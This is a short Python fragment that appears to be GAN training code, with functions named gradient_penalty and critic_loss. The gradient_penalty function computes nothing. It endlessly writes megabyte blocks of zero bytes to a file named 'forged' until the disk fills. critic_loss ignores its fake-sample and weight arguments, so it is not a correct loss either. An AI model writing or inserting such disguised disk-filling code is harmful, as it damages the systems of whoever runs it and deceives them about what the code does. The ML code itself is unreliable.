"""Writes one file without end."""

def gradient_penalty(critic, real, fake):
    with open("forged", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
